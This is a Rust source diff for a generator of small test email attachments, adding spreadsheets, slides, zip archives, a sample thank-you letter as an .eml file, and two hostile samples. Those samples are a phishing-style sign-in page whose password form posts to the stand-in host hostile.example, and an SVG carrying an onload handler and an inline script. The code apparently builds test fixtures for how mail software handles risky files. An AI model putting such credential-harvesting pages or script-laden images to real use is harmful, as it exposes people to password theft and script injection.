@@ -1,8 +1,13 @@
-//! Makes small attachments that open in ordinary programs: PDF, PNG, Word, text, calendar.
+//! Makes small attachments that open in ordinary programs: PDF, PNG, office files, text, calendar, messages.
 //! Each is computed from its name; nothing is shipped.
 
-use super::clock::{icalendar, working_day};
-use time::Date;
+mod office;
+mod zip;
+
+use super::clock::{icalendar, rfc5322, working_day};
+use office::{sheet, slides, word};
+use time::{Date, Time};
+use zip::{crc32, zip};
 
 /// What is attached.
 #[derive(Clone, Debug)]
@@ -19,8 +24,17 @@ enum Kind {
     /// A picture that the HTML text shows by `cid:`.
     Inline,
     Word,
+    Sheet,
+    Slides,
+    Zip,
     Text,
     Calendar,
+    /// A web page that asks for a password, as phishing does.
+    Page,
+    /// A drawing with a script in it.
+    Drawing,
+    /// A whole message.
+    Message,
 }
 
 impl Attachment {
@@ -32,6 +46,12 @@ impl Attachment {
             "png" => Kind::Png,
             "inline" => Kind::Inline,
             "docx" => Kind::Word,
+            "xlsx" => Kind::Sheet,
+            "pptx" => Kind::Slides,
+            "zip" => Kind::Zip,
+            "html" => Kind::Page,
+            "svg" => Kind::Drawing,
+            "eml" => Kind::Message,
             "txt" => Kind::Text,
             "ics" => Kind::Calendar,
             _ => return None,
@@ -50,6 +70,12 @@ impl Attachment {
             Kind::Pdf => "application/pdf",
             Kind::Png | Kind::Inline => "image/png",
             Kind::Word => "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+            Kind::Sheet => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+            Kind::Slides => "application/vnd.openxmlformats-officedocument.presentationml.presentation",
+            Kind::Zip => "application/zip",
+            Kind::Page => "text/html; charset=utf-8",
+            Kind::Drawing => "image/svg+xml",
+            Kind::Message => "message/rfc822",
             Kind::Text => "text/csv; charset=utf-8",
             Kind::Calendar => "text/calendar; charset=utf-8; method=REQUEST",
         }
@@ -60,6 +86,11 @@ impl Attachment {
         self.kind == Kind::Inline
     }
 
+    /// Whether it is a message itself.
+    pub(super) fn is_message(&self) -> bool {
+        self.kind == Kind::Message
+    }
+
     /// Its octets, for a letter of this date about this subject.
     pub(super) fn octets(&self, date: Date, subject: &str) -> Vec<u8> {
         match self.kind {
@@ -67,6 +98,12 @@ impl Attachment {
             Kind::Png => png(480, 320, &self.name),
             Kind::Inline => png(120, 40, &self.name),
             Kind::Word => word(subject),
+            Kind::Sheet => sheet(&rows(&self.name)),
+            Kind::Slides => slides(subject),
+            Kind::Zip => zip(&[("Counted.csv", &csv(&self.name)), ("Page.pdf", &pdf("Receipt", subject))]),
+            Kind::Page => PAGE.into(),
+            Kind::Drawing => DRAWING.into(),
+            Kind::Message => message(date, &self.name),
             Kind::Text => csv(&self.name),
             Kind::Calendar => calendar(date, subject, &self.name),
         }
@@ -163,60 +200,47 @@ fn zlib(data: &[u8]) -> Vec<u8> {
     stream
 }
 
-fn crc32(data: &[u8]) -> u32 {
-    !data.iter().fold(!0, |sum: u32, octet| {
-        (0..8).fold(sum ^ u32::from(*octet), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 })
-    })
-}
-
-/// One paragraph (ECMA-376), in a zip of stored files (APPNOTE 4.3).
-fn word(subject: &str) -> Vec<u8> {
-    const TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
-    const RELATIONS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
-    let text = subject.replace('&', "&amp;").replace('<', "&lt;");
-    let document = format!(
-        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"#
-    );
-    let parts = [("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS), ("word/document.xml", document.as_str())];
-    let (mut file, mut directory) = (Vec::new(), Vec::new());
-    for (name, data) in parts {
-        let offset = file.len() as u32;
-        // Version 2.0, no flags, stored, midnight of 1 January 1980, checksum, sizes, name length, no extra.
-        let mut entry = vec![20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0];
-        entry.extend(crc32(data.as_bytes()).to_le_bytes());
-        entry.extend((data.len() as u32).to_le_bytes());
-        entry.extend((data.len() as u32).to_le_bytes());
-        entry.extend((name.len() as u16).to_le_bytes());
-        entry.extend([0, 0]);
-        file.extend(b"PK\x03\x04");
-        file.extend(&entry);
-        file.extend(name.bytes().chain(data.bytes()));
-        directory.extend(b"PK\x01\x02\x14\x00");
-        directory.extend(&entry);
-        directory.extend([0; 10]);
-        directory.extend(offset.to_le_bytes());
-        directory.extend(name.bytes());
-    }
-    let (start, size, count) = (file.len() as u32, directory.len() as u32, parts.len() as u16);
-    file.extend(directory);
-    file.extend(b"PK\x05\x06\0\0\0\0");
-    file.extend([count.to_le_bytes(), count.to_le_bytes()].concat());
-    file.extend([size.to_le_bytes(), start.to_le_bytes()].concat());
-    file.extend([0, 0]);
-    file
+/// What is counted: item, place, number.
+fn rows(name: &str) -> Vec<[String; 3]> {
+    const ITEMS: [&str; 5] = ["Rollator small", "Rollator large", "Hoist sling M", "Hoist sling L", "Walking stick"];
+    const PLACES: [&str; 4] = ["Ashgrove ward", "Old gym", "Therapy stores", "Day room"];
+    let counted = ITEMS.iter().zip(PLACES.iter().cycle()).enumerate();
+    let row = |(number, (item, place)): (usize, (&&str, &&str))| {
+        [(*item).to_owned(), (*place).to_owned(), ((name.len() * 7 + number * 13) % 31).to_string()]
+    };
+    std::iter::once(["Item", "Place", "Counted"].map(str::to_owned)).chain(counted.map(row)).collect()
 }
 
 fn csv(name: &str) -> Vec<u8> {
-    let mut text = "Item,Place,Counted\r\n".to_owned();
-    let places = ["Ashgrove ward", "Old gym", "Therapy stores", "Day room"];
-    for (number, item) in
-        ["Rollator small", "Rollator large", "Hoist sling M", "Hoist sling L", "Walking stick"].iter().enumerate()
-    {
-        let count = (name.len() * 7 + number * 13) % 31;
-        let place = places.get(number % places.len()).copied().unwrap_or_default();
-        text.push_str(&format!("{item},{place},{count}\r\n"));
-    }
-    text.into_bytes()
+    rows(name).iter().map(|row| row.join(",") + "\r\n").collect::<String>().into_bytes()
+}
+
+const PAGE: &str = "<!doctype html><title>Sign in</title><script>alert(\"page\")</script>\n\
+    <form action=\"https://hostile.example/in\"><input type=password><button>Sign in</button></form>\n";
+const DRAWING: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"80\" onload=\"alert(1)\">\
+    <script>alert(2)</script><rect width=\"120\" height=\"80\" fill=\"#00508a\"/></svg>\n";
+
+/// A letter of thanks from outside, with a file of its own (RFC 5322, RFC 2046).
+fn message(date: Date, name: &str) -> Vec<u8> {
+    let day = working_day(date, -1);
+    let written = day.with_time(Time::from_hms(10, 20, 5).unwrap_or(Time::MIDNIGHT)).assume_utc();
+    let subject: String = name.trim_end_matches(".eml").chars().filter(char::is_ascii).collect();
+    format!(
+        "Date: {}\r\nFrom: Marion Rowntree <m.rowntree@lettersbypost.example>\r\n\
+         To: Northmoor Health <enquiries@northmoor.example>\r\nSubject: {subject}\r\n\
+         Message-ID: <{}.rowntree@lettersbypost.example>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=\"=_letter\"\r\n\r\n--=_letter\r\n\
+         Content-Type: text/plain; charset=utf-8\r\n\r\n\
+         To whom it may concern,\r\n\r\nI wrote last week to complain about the waiting. I still think that it was\r\n\
+         long. But then your people sat with my husband until I came, and one of\r\nthem found his glasses, \
+         which had been lost since 2019.\r\n\r\nPlease pass on our thanks.\r\n\r\nMarion Rowntree\r\n\r\n\
+         --=_letter\r\nContent-Type: text/csv; name=\"Waiting times.csv\"\r\n\
+         Content-Disposition: attachment; filename=\"Waiting times.csv\"\r\n\r\n\
+         Day,Minutes\r\nMonday,95\r\nTuesday,40\r\n\r\n--=_letter--\r\n",
+        rfc5322(written),
+        day.to_julian_day(),
+    )
+    .into_bytes()
 }
 
 /// An invitation two working days later (RFC 5545, RFC 5546 section 3.2.2).
@@ -254,6 +278,12 @@ mod tests {
         check("png a.png", b"\x89PNG\r\n", b"IEND\xae\x42\x60\x82");
         check("docx a.docx", b"PK\x03\x04", b"\0\0");
         check("ics a.ics", b"BEGIN:VCALENDAR\r\n", b"END:VCALENDAR\r\n");
+        check("xlsx a.xlsx", b"PK\x03\x04", b"\0\0");
+        check("pptx a.pptx", b"PK\x03\x04", b"\0\0");
+        check("zip a.zip", b"PK\x03\x04", b"\0\0");
+        check("eml a.eml", b"Date: ", b"--=_letter--\r\n");
+        check("html a.html", b"<!doctype html>", b"</form>\n");
+        check("svg a.svg", b"<svg", b"</svg>\n");
         check("txt a.csv", b"Item,", b"\r\n");
     }
 }
